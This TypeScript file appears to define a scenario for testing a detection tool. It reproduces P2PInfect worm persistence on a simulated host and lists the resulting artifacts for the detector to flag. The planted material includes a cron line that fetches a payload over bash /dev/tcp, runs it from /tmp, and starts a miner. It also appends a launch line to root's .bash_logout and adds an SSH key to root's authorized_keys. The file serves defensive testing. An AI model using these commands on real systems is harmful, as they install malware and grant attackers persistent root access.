import type { Scenario } from '../types.js';
import { appendLine, cronLine, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum } from '../kit.js';

// Modelled on: Unit 42 and Cado Security's P2PInfect reports (2023), as summarised in
// https://secureteam.co.uk/?p=4658 (P2PInfect worm targeting Redis servers) and
// "Worm-like botnet malware targeting popular Redis storage tool",
// https://webstage.linuxsecurity.com/news/vendors-products/worm-like-botnet-malware-targeting-popular-redis-storage-tool
// (Redis entry, a cron line that fetches the payload over bash /dev/tcp, an SSH key added for
// root, persistence in a shell start-up file, the payload run from /tmp).
const BIN = '/tmp/linux';

export const p2pinfect: Scenario = {
  name: 'p2pinfect',
  plan: (ctx) => {
    const argv = [BIN, '-o', stratum(ctx.pool, 14444)];
    const cron = `*/1 * * * * bash -c 'exec 6<>/dev/tcp/${ctx.pool}/8080 && echo -n "GET /linux" >&6 && cat 0<&6 > ${BIN} && chmod +x ${BIN} && ${BIN}'`;
    const logout = `${BIN} >/dev/null 2>&1 &`;
    const key = `${ctx.keys.p2pinfect!.publicKey} root@localhost`;
    return {
      family: 'p2pinfect',
      plant: [installBinary('p2pinfect', BIN), cronLine(cron), appendLine('/root/.bash_logout', logout), appendLine('/root/.ssh/authorized_keys', key, '600')],
      start: [startProcess(argv)],
      artifacts: [
        processArtifact(argv, 'p2pinfect', ctx.sha256('p2pinfect'), 'miner', `${ctx.pool}:14444`),
        { kind: 'cron-line', path: ROOT_CRONTAB, line: cron },
        { kind: 'profile-line', path: '/root/.bash_logout', line: logout },
        { kind: 'key', path: '/root/.ssh/authorized_keys', line: key, comment: 'root@localhost', fingerprint: ctx.keys.p2pinfect!.fingerprint },
      ],
      expectFindings: true,
      respawnSeconds: 60,
      binaries: ['p2pinfect'],
      sources: [
        { url: 'https://secureteam.co.uk/?p=4658', title: 'P2PInfect worm targets Redis servers (Unit 42 findings)' },
        { url: 'https://webstage.linuxsecurity.com/news/vendors-products/worm-like-botnet-malware-targeting-popular-redis-storage-tool', title: 'Worm-like botnet malware targeting popular Redis storage tool (Cado Security findings)' },
      ],
    };
  },
};
